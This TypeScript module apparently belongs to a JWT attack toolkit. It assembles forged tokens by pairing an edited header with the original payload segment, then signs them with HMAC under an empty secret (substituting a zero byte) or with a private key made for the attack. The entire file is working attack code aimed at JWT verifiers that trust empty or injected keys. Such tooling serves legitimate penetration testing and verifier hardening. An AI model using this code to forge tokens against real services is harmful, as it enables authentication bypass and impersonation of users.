/**
 * Putting a forged token together: the (edited) header text, the original payload segment byte for byte,
 * and a signature made here over that exact signing input with WebCrypto — jose's signers would re-serialize
 * the header, and an attack must control every byte of it.
 */
import type { CryptoKey } from 'jose';
import { jwsAlgorithm, webCryptoSignParams, type JwsAlgorithm, type JwsAlgorithmName } from '../algorithms';
import { encodeBase64url, encodeBase64urlText, utf8Bytes } from '../base64url';
import { subtle } from '../webcrypto';
import { AttackError } from './types';

export type HmacAlgorithmName = 'HS256' | 'HS384' | 'HS512';

/** `BASE64URL(header).payloadSegment`: the JWS Signing Input (RFC 7515 §5.1) of a forged token. */
export function signingInput(headerText: string, payloadSegment: string): string {
  return `${encodeBase64urlText(headerText)}.${payloadSegment}`;
}

/** A compact token with the given signature bytes (none: an empty segment). */
export function assemble(input: string, signature: Uint8Array = new Uint8Array(0)): string {
  return `${input}.${encodeBase64url(signature)}`;
}

/** The token's own HMAC alg when it has one (a verifier configured for it), else HS256. */
export function hmacAlgorithmFor(alg: string | null): HmacAlgorithmName {
  return alg === 'HS384' || alg === 'HS512' ? alg : 'HS256';
}

// HMAC (RFC 2104) pads a key shorter than the hash's block with zero bytes, so the empty key and a single
// zero byte give the same MAC. WebCrypto refuses to import a zero-length key; the zero byte is that key.
const EMPTY_KEY_EQUIVALENT = Uint8Array.of(0);

/** The token `header.payload` signed with HMAC under `secret` (which may be empty). */
export async function hmacToken(alg: HmacAlgorithmName, secret: Uint8Array, headerText: string, payloadSegment: string): Promise<string> {
  const algorithm = jwsAlgorithm(alg) as JwsAlgorithm;
  const input = signingInput(headerText, payloadSegment);
  try {
    const key = await subtle().importKey('raw', secret.length === 0 ? EMPTY_KEY_EQUIVALENT : secret, { name: 'HMAC', hash: algorithm.hash as string }, false, ['sign']);
    return assemble(input, new Uint8Array(await subtle().sign(webCryptoSignParams(algorithm), key, utf8Bytes(input))));
  } catch (e) {
    throw new AttackError('crypto-failed', `${alg} signing failed: ${(e as Error)?.message ?? String(e)}`, { cause: e });
  }
}

/** The token `header.payload` signed with a private key (one made for the attack). */
export async function keyToken(alg: JwsAlgorithmName, privateKey: CryptoKey, headerText: string, payloadSegment: string): Promise<string> {
  const algorithm = jwsAlgorithm(alg) as JwsAlgorithm;
  const input = signingInput(headerText, payloadSegment);
  try {
    // WebCrypto's ECDSA signature is already R || S, the JWS form (RFC 7518 §3.4).
    return assemble(input, new Uint8Array(await subtle().sign(webCryptoSignParams(algorithm), privateKey, utf8Bytes(input))));
  } catch (e) {
    throw new AttackError('crypto-failed', `${alg} signing failed: ${(e as Error)?.message ?? String(e)}`, { cause: e });
  }
}
